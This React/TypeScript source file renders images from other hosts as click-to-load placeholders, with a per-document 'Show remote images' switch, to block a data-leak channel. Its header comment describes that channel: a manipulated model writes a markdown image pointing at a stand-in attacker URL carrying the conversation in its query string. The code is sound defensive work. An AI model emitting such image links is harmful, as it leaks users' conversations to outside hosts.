/**
 * Images from other hosts. Loading one tells its host that someone opened
 * this text, and a model tricked into writing `![](https://attacker/?q=…)`
 * would leak the conversation that way. So such an image shows as a
 * placeholder naming its host and loads only when clicked; a document can
 * show them all at once with its "Show remote images" switch
 * (`RemoteImagesBar`). Chat replies have no switch, only the click.
 */
import {
  createContext,
  useCallback,
  useContext,
  useLayoutEffect,
  useMemo,
  useState,
  type ComponentProps,
  type KeyboardEvent,
  type MouseEvent,
  type ReactNode,
} from 'react'

/** What the preview around an image allows, and where its remote hosts are noted. */
interface RemoteImagesPolicy {
  /** Every remote image loads without a click. */
  shown: boolean
  /** Note that an image from `host` is in the document. */
  note?: (host: string) => void
}

const RemoteImages = createContext<RemoteImagesPolicy>({shown: false})

/**
 * The host of image address `src` when it is on another site, over http or
 * https; `undefined` for this site's own images and anything else (the
 * link rule has turned other schemes into `#` already).
 */
export function remoteHost(src: string, base: string = location.href): string | undefined {
  let url: URL
  try {
    url = new URL(src, base)
  } catch {
    return undefined
  }
  if (url.protocol !== 'http:' && url.protocol !== 'https:') return undefined
  return url.origin === new URL(base).origin ? undefined : url.host
}

type ImageProps = ComponentProps<'img'> & {node?: unknown}

/** `<img>`: a remote image is a placeholder until clicked or allowed. */
export function Image({node: _node, ...props}: ImageProps) {
  const {shown, note} = useContext(RemoteImages)
  // A click loads the image in this document only: it is kept with the document's `note`.
  const [clickedIn, setClickedIn] = useState<{note: RemoteImagesPolicy['note']}>()
  const clicked = clickedIn !== undefined && clickedIn.note === note
  const host = typeof props.src === 'string' ? remoteHost(props.src) : undefined
  useLayoutEffect(() => {
    if (host) note?.(host)
  }, [host, note])
  // biome-ignore lint/a11y/useAltText: the alt text comes with the props
  if (!host || shown || clicked) return <img {...props} />
  // A badge is often inside a link: loading it must not follow the link.
  const load = (event: MouseEvent | KeyboardEvent) => {
    if ('key' in event && event.key !== 'Enter' && event.key !== ' ') return
    event.preventDefault()
    event.stopPropagation()
    setClickedIn({note})
  }
  // A span, not a button: a button inside a link is not valid HTML.
  return (
    // biome-ignore lint/a11y/useSemanticElements: a button may not be inside a link, where badges often are
    <span className="remote-image" role="button" tabIndex={0} title={`Load this image from ${host}`} onClick={load} onKeyDown={load}>
      <span className="remote-image-icon" aria-hidden="true" />
      {props.alt ? <span className="remote-image-alt">{props.alt}</span> : null}
      <span className="remote-image-host">Image from {host}</span>
    </span>
  )
}

/** Props of `RemoteImagesScope`. */
export interface RemoteImagesScopeProps {
  /** The open document's id: its hosts are listed from when it opens. */
  documentId: string | undefined
  /** The document's switch. */
  shown: boolean
  /** Flip the document's switch. */
  onShownChange: (shown: boolean) => void
  children: ReactNode
}

/**
 * A document's preview: its remote images follow its switch, and a bar
 * above it names their hosts and holds the switch, once there are any.
 * Hosts stay listed while the document is open, so the bar does not come
 * and go as a long document's blocks mount and unmount.
 */
export function RemoteImagesScope({documentId, shown, onShownChange, children}: RemoteImagesScopeProps) {
  const [seen, setSeen] = useState<{documentId: string | undefined; hosts: readonly string[]}>({documentId, hosts: []})
  // A new function per document: images that stay mounted across a switch
  // of documents (the same text renders the same blocks) note their hosts again.
  const note = useCallback(
    (host: string) =>
      setSeen((seen) => {
        const hosts = seen.documentId === documentId ? seen.hosts : []
        return hosts.includes(host) ? seen : {documentId, hosts: [...hosts, host]}
      }),
    [documentId],
  )
  const policy = useMemo(() => ({shown, note}), [shown, note])
  const hosts = seen.documentId === documentId ? seen.hosts : []
  return (
    <>
      {hosts.length > 0 && (
        <div className="remote-images-bar">
          <label>
            <input type="checkbox" checked={shown} onChange={(event) => onShownChange(event.target.checked)} /> Show remote images
          </label>
          <span className="remote-images-hosts" title={hosts.join(', ')}>
            {shown ? `Images from ${hostList(hosts)} are loaded` : `Images from ${hostList(hosts)} are hidden: click one to load it`}
          </span>
        </div>
      )}
      <RemoteImages value={policy}>{children}</RemoteImages>
    </>
  )
}

/** `a, b and 3 more`. */
function hostList(hosts: readonly string[]): string {
  const named = hosts.slice(0, 3).join(', ')
  return hosts.length > 3 ? `${named} and ${hosts.length - 3} more` : named
}
